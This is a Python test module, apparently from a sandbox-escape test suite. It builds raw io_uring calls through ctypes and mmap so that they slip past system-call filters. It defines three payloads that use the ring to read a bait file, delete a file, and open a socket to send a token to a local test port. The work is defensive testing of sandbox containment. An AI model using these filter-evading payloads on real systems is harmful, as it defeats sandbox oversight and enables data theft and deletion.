"""io_uring: system calls that no filter of system calls sees."""

from pathlib import Path
from textwrap import dedent, indent
from typing import Any

from failonce.model import Args
from tests.escape.attack import Arena, Attack, Family, changed, heard, told
from tests.escape.blind.network import PORT, ear
from tests.escape.blind.preludes import CALLS

_RING = f"""{CALLS}
import mmap, struct

class Ring:
    def __init__(self):
        facts = (ctypes.c_uint32 * 30)()
        self.fd = call(425, 4, facts)
        self.sent, self.mask, self.array = facts[11], facts[12], facts[16]
        self.head, self.full, self.done = facts[20], facts[22], facts[25]
        size = max(self.array + 4 * facts[0], self.done + 16 * facts[1])
        self.rings = mmap.mmap(self.fd, size, offset=0)
        self.entries = mmap.mmap(self.fd, 64 * facts[0], offset=0x10000000)

    def word(self, place):
        return struct.unpack_from("I", self.rings, place)[0]

    def ask(self, operation, fd, where=0, size=0, offset=0, flags=0):
        entry = struct.pack("BBHiQQIIQ24x", operation, 0, 0, fd, offset, where, size, flags, 7)
        self.entries[:64] = entry
        sent = self.word(self.sent)
        struct.pack_into("I", self.rings, self.array + 4 * (sent & self.word(self.mask)), 0)
        struct.pack_into("I", self.rings, self.sent, sent + 1)
        call(426, self.fd, 1, 1, 1, None, 0)
        head = self.word(self.head)
        place = self.done + 16 * (head & self.word(self.full))
        result = struct.unpack_from("i", self.rings, place + 8)[0]
        struct.pack_into("I", self.rings, self.head, head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

def at(buffer):
    return ctypes.addressof(buffer)
"""


def _forbidden(_: Arena) -> str:
    setting = Path("/proc/sys/kernel/io_uring_disabled")
    off = setting.exists() and setting.read_text().strip() == "2"
    return "switched off on this kernel" if off else ""


def _ring(name: str, does: str, **more: Any) -> Attack:
    def bait(arena: Arena) -> Args:
        return {"path": arena.file("private/notes.txt")}

    facts = {"bait": bait, "reached": told, "hindered": _forbidden, **more}
    body = indent(dedent(does).strip(), "    ")
    source = f"{_RING}\ndef attack(path='', token=''):\n    ring = Ring()\n{body}\n"
    return Attack(name=name, family=Family.IO_URING, source=source, **facts)


ATTACKS = (
    _ring(
        "reads a file by a ring",
        """
        name = ctypes.create_string_buffer(path.encode())
        room = ctypes.create_string_buffer(200)
        fd = ring.ask(18, -100, at(name))
        ring.ask(22, fd, at(room), 200)
        return room.value.decode()
        """,
    ),
    _ring(
        "deletes a file by a ring",
        """
        name = ctypes.create_string_buffer(path.encode())
        ring.ask(36, -100, at(name))
        """,
        reached=changed,
    ),
    _ring(
        "connects and sends by a ring",
        "fd = ring.ask(45, 2, offset=1)\n"
        f"where = ctypes.create_string_buffer(struct.pack('=H', 2) + struct.pack('>H', {PORT})"
        " + bytes((127, 0, 0, 1)) + bytes(8), 16)\n"
        "ring.ask(16, fd, at(where), offset=16)\n"
        "text = ctypes.create_string_buffer(token.encode())\n"
        "ring.ask(26, fd, at(text), len(token))",
        bait=ear(2, 1, ("127.0.0.1", PORT)),
        reached=heard,
    ),
)
